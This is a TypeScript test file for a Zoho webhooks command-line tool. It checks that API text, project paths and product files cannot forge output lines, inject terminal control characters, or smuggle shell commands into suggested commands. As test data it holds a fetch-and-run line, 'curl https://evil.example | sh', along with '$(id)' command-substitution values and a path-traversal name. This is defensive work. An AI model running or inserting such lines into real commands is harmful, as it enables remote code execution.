import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { openLogAt } from "../../src/log/open-log.ts";
import { managedProducts } from "../../src/zoho-webhooks/index.ts";
import { type ChannelWorld, isWatch, startChannelWorld } from "../support/channel-world.ts";
import { newEntry } from "../support/log-entry.ts";
import { lacks } from "../support/needs.ts";
import { SHOP, shopProject } from "../support/own-product.ts";
import { run, tempFolder } from "../support/run.ts";

let world: ChannelWorld;
beforeEach(async () => {
  world = await startChannelWorld();
});
afterEach(() => world.close());

/** What would pass for a line of ours, or be run when it is copied. */
const FORGED = "no\nerror: all is lost\n  run: curl https://evil.example | sh";
const startsLine = /^\s*(?:error: all is lost|run: curl)/m;

describe("text from Zoho", () => {
  it.each([
    ["its message", { code: "INVALID_DATA", message: FORGED, details: {} }],
    ["its code", { code: FORGED, message: "no", details: {} }],
    ["the place that it names", { code: "INVALID_DATA", message: "no", details: { json_path: FORGED } }],
    ["the type that it wants", { code: "INVALID_DATA", message: "no", details: { expected_data_type: FORGED } }],
    ["permissions", { code: "NO_PERMISSION", message: "no", details: { permissions: [FORGED] } }],
  ])("stays on one line of an error: %s", async (_, fault) => {
    world.server.trouble({ status: 400, body: { ...fault, status: "error" } }, 1, isWatch("GET"));
    const { err } = await world.channels(["list"]);
    expect(err).toContain("error: all is lost");
    expect(err).not.toMatch(startsLine);
  });

  it("stays on one line when it refuses a token", async () => {
    world.server.trouble({ status: 200, body: { error: FORGED } }, 1, ({ path }) => path === "/oauth/v2/token");
    const { exitCode, err } = await world.channels(["list"]);
    expect(exitCode).toBe(6);
    expect(err).not.toMatch(startsLine);
  });

  it.each([
    ["a message", { code: "INVALID_DATA", message: "x".repeat(9_000_000), details: {} }],
    ["something else", `not JSON ${"x".repeat(9_000_000)}`],
  ])("is cut where it is long: %s", async (_, body) => {
    world.server.trouble({ status: 400, body }, 1, isWatch("GET"));
    const { err } = await world.channels(["list"]);
    expect(err).toContain("xxx…");
    expect(err.length).toBeLessThan(1000);
  });

  it("about a webhook stays on one line, and is quoted in a command to copy", async () => {
    const { server, clock, cwd } = world;
    const scopes = managedProducts.flatMap((each) => each.loginScopes);
    const env = { ...world.env, ZOHO_REFRESH_TOKEN: server.accounts.makeRefreshToken(scopes) };
    const hook = { webhook_id: `1; ${FORGED}`, webhook_name: FORGED, entity: "invoice", related_rules: [] };
    server.trouble({ status: 200, body: { code: 0, webhooks: [hook] } }, 1, (each) =>
      each.path.endsWith("/settings/webhooks"),
    );
    const argv = ["webhooks", "list", "--product", "books"];
    const { out, err } = await run(argv, { env, cwd, now: clock.now, sleep: clock.sleep });
    expect(err).toContain("webhooks delete '1; no error: all is lost run: curl https://evil.example | sh' --product");
    expect(out + err).not.toMatch(startsLine);
  });

  it("is no channel's id, which becomes part of commands to copy", async () => {
    const channel = { channel_id: `1$(id)${FORGED}`, resource_name: "Leads", events: ["Leads.create"] };
    const { server, env, cwd, clock } = world;
    for (const argv of [["channels", "list"], ["doctor"]]) {
      server.trouble({ status: 200, body: { watch: [channel] } }, 1, isWatch("GET"));
      const { out, err } = await run(argv, { env, cwd, now: clock.now, sleep: clock.sleep });
      expect(out + err).toContain("is not from Zoho's API");
      expect(out + err).not.toMatch(/(?:renew|update) 1\$/);
    }
  });
});

/** What a terminal obeys, and what reverses the direction of its text. */
const CONTROLS = "\u001b\u009b\u061c\u2028\u202e\u2066";
const controlsIn = (text: string): readonly string[] => [...text].filter((each) => CONTROLS.includes(each));

// Windows has no such file names.
describe.skipIf(lacks("posix"))("a project's path", () => {
  const CONFIG = "zoho-hooks.config.json";

  it.each<[what: string, files: Readonly<Record<string, string>>, argv: readonly string[]]>([
    ["an error about the config file", { [CONFIG]: "{" }, ["products"]],
    ["an error about a setting", { [CONFIG]: '{"port": "x"}' }, ["config", "show"]],
    ["an error about the .env", { ".env": "ZOHO_\n" }, ["products"]],
    ["an error about a secret", { ".zoho-hooks/keys/hook-secrets.json": "{" }, ["verify", "-"]],
    ["an error about a link", { [CONFIG]: '{"store": "link"}' }, ["events", "list"]],
    ["an error about a schema", { [CONFIG]: '{"products": {"forms": {"schema": "none.json"}}}' }, ["types"]],
    ["a warning", { ".env": "ZOHO_HOOKS_PROT=1\n" }, ["config", "show"]],
    ["a notice", { ".env": "ZOHO_REFRESH_TOKEN=x\n" }, ["trust"]],
    ["a hint", {}, ["fixtures", "show", "crm", "Nothing.at.all"]],
  ])("begins no line and controls no terminal: %s", async (_, files, argv) => {
    const cwd = join(tempFolder(), `a${CONTROLS}\nerror: all is lost\n  run: curl`);
    mkdirSync(join(cwd, ".zoho-hooks/keys"), { recursive: true });
    symlinkSync("/", join(cwd, "link"));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(cwd, name), text);
    const { out, err } = await run(argv, { cwd, stdin: "{}" });
    expect(err).not.toBe("");
    expect(err).not.toMatch(startsLine);
    expect(controlsIn(out + err)).toEqual([]);
  });

  it("is left as it is where a script reads it", async () => {
    const cwd = join(tempFolder(), "a\u202e\nb");
    mkdirSync(cwd);
    await run(["fixtures", "eject", "crm", "Leads.create"], { cwd });
    const { lines } = await run(["fixtures", "show", "crm", "Leads.create", "--json"], { cwd });
    expect(lines()[0]?.path).toContain(`${cwd}/.zoho-hooks/fixtures`);
  });
});

it("names in a project are quoted in the commands that doctor names", async () => {
  const cwd = tempFolder();
  writeFileSync(join(cwd, "zoho-hooks.config.json"), '{"store": "$(id).db"}');
  const log = await openLogAt({ root: cwd, store: "$(id).db" }, { now: () => new Date() });
  await log.append(newEntry({ forward: { targets: ["http://$(id).test/$(id)"] } }));
  await log.close();
  chmodSync(join(cwd, "$(id).db"), 0o644);
  const { out } = await run(["doctor"], { cwd });
  expect(out).toContain("listen --forward-to 'http://$(id).test/$(id)', or");
  expect(out).toContain("prune --give-up 'http://$(id).test'");
  if (process.platform !== "win32") expect(out).toContain("chmod 600 '$(id).db'");
});

it.each([
  ["crm", "1", true],
  ["crm", "1$(id)", false],
  ["x/../../elsewhere", "1", false],
])("a remembered channel names no file elsewhere, and no command: %s %s", async (product, id, isRead) => {
  const cwd = tempFolder();
  const channel = { profile: "environment", events: [], notifyUrl: `https://a.example/${FORGED}`, conditions: [] };
  const channels = [{ ...channel, id, product, ofListener: true }];
  mkdirSync(join(cwd, "home/zoho-hooks"), { recursive: true });
  writeFileSync(join(cwd, "home/zoho-hooks/channels.json"), JSON.stringify({ channels }));
  const env = { XDG_CONFIG_HOME: join(cwd, "home") };
  const { err } = await run(["listen", "--port", "0", "--tunnel", "none", "--timeout", "20ms"], { cwd, env });
  expect(err.includes("Channel 1 is left over")).toBe(isRead);
  expect(err).not.toMatch(startsLine);
  expect(err).not.toMatch(/\$\(id\)|elsewhere/);
});

it("the texts of a product of the project's stay on their lines", async () => {
  const about = { ...JSON.parse(SHOP["webhooks/shop/product.json"]), title: FORGED, events: { "order.paid": FORGED } };
  const text = JSON.stringify(about).replaceAll("no", `no${CONTROLS.slice(1)}`);
  const cwd = shopProject({ "webhooks/shop/product.json": text });
  for (const argv of [["products"], ["products", "shop"], ["fixtures", "list"], ["products", "shop", "--json"]]) {
    const { out, err } = await run(argv, { cwd });
    expect(out + err).not.toMatch(startsLine);
    expect(controlsIn(out + err)).toEqual([]);
  }
});
